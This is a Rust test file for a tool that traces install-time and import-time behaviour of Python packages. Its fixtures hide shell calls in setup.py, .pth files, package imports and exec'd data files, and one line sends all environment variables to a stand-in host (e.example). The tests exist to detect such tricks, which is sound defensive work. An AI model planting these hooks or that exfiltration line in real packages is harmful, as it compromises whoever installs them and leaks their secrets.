//! Packages of several files.

use ringfence_analysis::When;

use crate::{check, traced};

fn checked(says: &str, files: &[(&str, &str)], expected: &[&str]) {
    let files: Vec<(&str, &[u8])> =
        files.iter().map(|(path, text)| (*path, text.as_bytes())).collect();
    let wrong = check(&traced(&files), says, expected);
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn what_a_setup_script_does_happens_while_installing() {
    checked(
        "module level",
        &[(
            "setup.py",
            "import os\nos.system('id')\nfrom setuptools import setup\nsetup(name='x')",
        )],
        &["Shell py:os.system Install"],
    );
    checked(
        "a command of its own",
        &[(
            "setup.py",
            "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        os.system('id')\n        install.run(self)\nsetup(cmdclass={'install': I})",
        )],
        &["Shell py:os.system Install"],
    );
    checked(
        "a module of the package that the script imports",
        &[
            ("setup.py", "import evil\nevil.go()"),
            ("evil.py", "import os\ndef go():\n    os.system('id')"),
        ],
        &["Shell py:os.system Install"],
    );
}

#[test]
fn a_package_runs_what_its_beginning_imports() {
    checked(
        "relative",
        &[
            ("p/__init__.py", "from . import a\nfrom .a import go\ngo('id')"),
            ("p/a.py", "import os\ndef go(c):\n    os.system(c)"),
        ],
        &["Shell py:os.system id Load"],
    );
    checked(
        "absolute, below src",
        &[
            ("src/p/__init__.py", "from p.sub.a import run\nrun('id')"),
            ("src/p/sub/__init__.py", ""),
            ("src/p/sub/a.py", "from os import system as run"),
        ],
        &["Shell py:os.system id Load"],
    );
    checked(
        "upwards",
        &[
            ("p/__init__.py", ""),
            ("p/a/__init__.py", "from ..b import x\nx('id')"),
            ("p/b.py", "import os\nx = os.system"),
        ],
        &["Shell py:os.system id"],
    );
    checked(
        "everything",
        &[
            ("p/__init__.py", "from .a import *\nrun('id')"),
            ("p/a.py", "import os\nrun = os.system"),
        ],
        &["Shell py:os.system id"],
    );
    checked(
        "in a folder that an archive adds",
        &[
            ("p-1.0/setup.py", ""),
            ("p-1.0/p/__init__.py", "import p.a\np.a.x('id')"),
            ("p-1.0/p/a.py", "import os\nx = os.system"),
        ],
        &["Shell py:os.system id"],
    );
}

#[test]
fn imports_in_a_circle_end() {
    checked(
        "a circle",
        &[
            ("p/__init__.py", "from . import a"),
            ("p/a.py", "from . import b\nimport os"),
            ("p/b.py", "from . import a\ndef f():\n    a.os.system('id')"),
        ],
        &["Shell py:os.system id"],
    );
}

#[test]
fn a_file_that_is_not_named_as_code_and_run_as_code_is_named() {
    let files: &[(&str, &[u8])] = &[
        (
            "p/__init__.py",
            b"import os\nexec(open(os.path.join(os.path.dirname(__file__), 'data.txt')).read())",
        ),
        ("p/data.txt", b"import os\nos.system('id')"),
    ];
    let trace = traced(files);
    assert_eq!(trace.loads.iter().map(|load| &*load.0).collect::<Vec<_>>(), ["p/data.txt"]);
    assert!(
        check(
            &trace,
            "data",
            &["Shell py:os.system id CodeInText", "DynamicCode py:builtins.exec p/data.txt"]
        )
        .is_empty()
    );
    for source in [
        "import runpy\nrunpy.run_path('p/data.txt')",
        "from pathlib import Path\nexec((Path(__file__).parent / 'data.txt').read_text())",
        "import importlib.machinery\nimportlib.machinery.SourceFileLoader('x', 'p/data.txt').load_module()",
        "import subprocess, sys\nsubprocess.run([sys.executable, 'p/data.txt'])",
        "with open('p/data.txt') as f:\n    exec(compile(f.read(), 'x', 'exec'))",
        "import pkgutil\nexec(pkgutil.get_data('p', 'data.txt'))",
    ] {
        let trace = traced(&[
            ("p/__init__.py", source.as_bytes()),
            ("p/data.txt", b"import os\nos.system('id')"),
        ]);
        assert_eq!(trace.loads.len(), 1, "{source}");
    }
}

#[test]
fn a_version_that_a_setup_script_executes_is_no_hidden_code() {
    let trace = traced(&[
        ("setup.py", b"exec(open('p/version.py').read())\nfrom setuptools import setup\nsetup(version=__version__)"),
        ("p/version.py", b"__version__ = '1.0'"),
    ]);
    assert!(trace.loads.is_empty());
    assert!(
        check(&trace, "version", &["DynamicCode py:builtins.exec p/version.py File", "no Shell"])
            .is_empty()
    );
}

#[test]
fn a_file_of_paths_runs_its_imports() {
    let trace = traced(&[("x.pth", b"/some/path\nimport os; os.system('id')\n")]);
    assert!(check(&trace, "path file", &["Shell py:os.system id"]).is_empty());
    assert_eq!(trace.events.iter().map(|event| event.when).max(), Some(When::Load));
}

#[test]
fn the_same_files_give_the_same_trace() {
    let files: &[(&str, &[u8])] = &[
        ("p/a.py", b"from .b import *\nimport os\nX = {n: getattr(os, n) for n in ('system', 'popen')}\nX['system']('id')"),
        ("p/b.py", b"import requests, os\nrequests.get('http://e.example', params=dict(os.environ))\nA=1\nB=2\nC=3"),
        ("p/__init__.py", b"from . import a"),
    ];
    let reversed: Vec<_> = files.iter().rev().copied().collect();
    for _ in 0..8 {
        assert_eq!(traced(files).events, traced(&reversed).events);
    }
}

#[test]
fn what_a_module_does_as_a_program_is_not_what_an_import_does() {
    let program = "import os\nif __name__ == '__main__':\n    os.system('id')";
    checked(
        "in a package",
        &[("p/__init__.py", ""), ("p/tool.py", program)],
        &["Shell py:os.system id Call"],
    );
    checked("a script", &[("bin/tool.py", program)], &["Shell py:os.system id Load"]);
    checked(
        "what starts with the package",
        &[("p/__init__.py", ""), ("p/__main__.py", program)],
        &["Shell py:os.system id Load"],
    );
}
